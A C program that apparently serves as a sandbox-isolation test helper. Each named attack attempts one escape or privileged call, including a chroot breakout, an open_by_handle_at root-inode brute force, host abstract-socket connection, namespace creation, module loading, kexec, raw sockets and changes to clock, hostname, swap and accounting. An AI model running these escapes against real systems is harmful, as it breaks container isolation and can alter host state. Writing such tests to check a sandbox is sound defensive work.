/* Tries one way out of a sandbox, with system calls that no shell makes. Exits 0 only if it worked. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/io.h>
#include <unistd.h>

#define WORKED(call) ((call) >= 0 ? 0 : 1)

static int sleeper(void *unused) { (void)unused; return 0; }

/* Keeps a directory open, makes another one the root, and walks up from the first. */
static int chroot_out(const char *canary) {
    mkdir("/tmp/jail", 0755);
    int root = open("/", O_RDONLY | O_DIRECTORY);
    if (root < 0 || chroot("/tmp/jail") || fchdir(root)) return 1;
    for (int i = 0; i < 256; i++) if (chdir("..")) break;
    if (chroot(".")) return 1;
    return WORKED(open(canary, O_RDONLY));
}

/* Opens the root of the disk by its handle: inode 2 on ext4, 128 on xfs. */
static int by_handle(const char *canary) {
    struct { struct file_handle h; unsigned char bytes[32]; } f;
    const uint32_t inodes[] = { 2, 128, 256, 64 };
    const char *mounts[] = { "/", "/tmp", "/dev", "/etc/hostname" };
    for (unsigned m = 0; m < 4; m++) {
        int mount = open(mounts[m], O_RDONLY);
        for (unsigned i = 0; i < 4; i++) {
            memset(&f, 0, sizeof f);
            f.h.handle_bytes = 8;
            f.h.handle_type = 1;
            memcpy(f.h.f_handle, &inodes[i], 4);
            int root = (int)syscall(SYS_open_by_handle_at, mount, &f.h, O_RDONLY);
            if (root >= 0 && openat(root, canary + 1, O_RDONLY) >= 0) return 0;
        }
    }
    return 1;
}

static int socket_of_host(const char *name) {
    struct sockaddr_un to = { .sun_family = AF_UNIX };
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    memcpy(to.sun_path + 1, name, strlen(name));
    return WORKED(connect(s, (struct sockaddr *)&to, (socklen_t)(sizeof(sa_family_t) + 1 + strlen(name))));
}

static int with_clone(unsigned long flags) {
    static char stack[65536];
    int pid = clone(sleeper, stack + sizeof stack, (int)(flags | SIGCHLD), NULL);
    if (pid > 0) waitpid(pid, NULL, 0);
    return WORKED(pid);
}

static int with_clone3(uint64_t flags) {
    struct { uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls; } args = { .flags = flags, .exit_signal = SIGCHLD };
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0) _exit(0);
    return WORKED(pid);
}

static int raise_open_files(void) {
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_max += 1;
    return WORKED(setrlimit(RLIMIT_NOFILE, &limit));
}

static int real_time(void) {
    struct sched_param parameters = { .sched_priority = 50 };
    return WORKED(sched_setscheduler(0, SCHED_FIFO, &parameters));
}

static int set_time(void) {
    struct timeval now;
    gettimeofday(&now, NULL);
    now.tv_sec += 3600;
    return WORKED(settimeofday(&now, NULL));
}

static int perf(void) {
    struct { uint32_t type, size; uint64_t config; unsigned char rest[104]; } attr = { .type = 1, .size = 120 };
    return WORKED(syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0));
}

static int bpf(void) {
    unsigned char attr[128] = { 2, 0, 0, 0, 4, 0, 0, 0, 4, 0, 0, 0, 1 };
    return WORKED(syscall(SYS_bpf, 0, attr, sizeof attr));
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "", *with = argc > 2 ? argv[2] : "";
    unsigned char junk[4096] = { 0 };
    if (!strcmp(what, "chroot")) return chroot_out(with);
    if (!strcmp(what, "handle")) return by_handle(with);
    if (!strcmp(what, "abstract")) return socket_of_host(with);
    if (!strcmp(what, "shm")) return WORKED(shmget((key_t)strtol(with, NULL, 0), 0, 0600));
    if (!strcmp(what, "shm-make")) return WORKED(shmget((key_t)strtol(with, NULL, 0), 4096, IPC_CREAT | 0600));
    if (!strcmp(what, "clone-user")) return with_clone(CLONE_NEWUSER);
    if (!strcmp(what, "clone-mount")) return with_clone(CLONE_NEWNS);
    if (!strcmp(what, "clone3-user")) return with_clone3(CLONE_NEWUSER);
    if (!strcmp(what, "unshare-user")) return WORKED(unshare(CLONE_NEWUSER));
    if (!strcmp(what, "fsopen")) return WORKED(syscall(430, "cgroup", 0));
    if (!strcmp(what, "open-tree")) return WORKED(syscall(428, AT_FDCWD, "/", 1));
    if (!strcmp(what, "pivot")) return WORKED(syscall(SYS_pivot_root, "/tmp", "/tmp"));
    if (!strcmp(what, "bpf")) return bpf();
    if (!strcmp(what, "perf")) return perf();
    if (!strcmp(what, "userfaultfd")) return WORKED(syscall(SYS_userfaultfd, 0));
    if (!strcmp(what, "io-uring")) return WORKED(syscall(SYS_io_uring_setup, 8, junk));
    if (!strcmp(what, "module")) return errno = 0, syscall(SYS_init_module, junk, sizeof junk, "") < 0 && errno == EPERM ? 1 : errno == ENOSYS ? 1 : 0;
    if (!strcmp(what, "kexec")) return WORKED(syscall(SYS_kexec_load, 0, 0, NULL, 0));
    if (!strcmp(what, "keyring")) return WORKED(syscall(SYS_keyctl, 0, -4, 1));
    if (!strcmp(what, "swap")) return WORKED(swapon("/etc/passwd", 0));
    if (!strcmp(what, "acct")) return WORKED(syscall(SYS_acct, "/etc/passwd"));
    if (!strcmp(what, "quota")) return WORKED(syscall(SYS_quotactl, 0x800001 << 8, "/dev/root", 0, junk));
    if (!strcmp(what, "reboot")) return WORKED(reboot(RB_DISABLE_CAD));
    if (!strcmp(what, "time")) return set_time();
    if (!strcmp(what, "kernel-log")) return WORKED(syscall(SYS_syslog, 3, junk, sizeof junk));
    if (!strcmp(what, "iopl")) return WORKED(iopl(3));
    if (!strcmp(what, "real-time")) return real_time();
    if (!strcmp(what, "open-files")) return raise_open_files();
    if (!strcmp(what, "packets")) return WORKED(socket(AF_PACKET, SOCK_RAW, 0x0300));
    if (!strcmp(what, "raw-ip")) return WORKED(socket(AF_INET, SOCK_RAW, 1));
    if (!strcmp(what, "vsock")) return WORKED(socket(40, SOCK_STREAM, 0));
    if (!strcmp(what, "hostname")) return WORKED(sethostname("escaped", 7));
    if (!strcmp(what, "fanotify")) return WORKED(syscall(SYS_fanotify_init, 0, 0));
    fprintf(stderr, "no such attack: %s\n", what);
    return 99;
}
